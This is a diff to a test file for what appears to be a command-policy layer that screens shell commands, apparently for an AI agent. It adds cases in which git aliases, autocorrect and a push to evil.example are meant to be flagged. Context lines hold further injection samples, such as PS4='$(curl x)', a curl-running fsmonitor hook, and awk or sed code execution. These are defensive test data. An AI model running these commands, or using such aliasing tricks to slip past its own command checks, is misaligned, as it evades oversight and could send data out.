@@ -90,6 +90,10 @@ describe("L1 on shell commands, by config", () => {
     ["export GLIBC_TUNABLES=glibc.malloc.check=3; sort data/sales.csv", "l1.command.dynamic"],
     ["PS4='$(curl x)' bash -xc ls", "l1.command.dynamic"],
     ["git config core.fsmonitor 'curl x'", "l1.command.dynamic"],
+    // An alias to a subcommand the policy would refuse by its name, or a name git only guesses.
+    ["git config alias.p push", "l1.command.dynamic"],
+    ["git p evil.example:x HEAD", "l1.command.dynamic"],
+    ["git config help.autocorrect immediate", "l1.command.dynamic"],
     ["awk '{ system(\"id\") }' x", "l1.code"],
     ["sed 's/a/b/e' x", "l1.code"],
   ])(
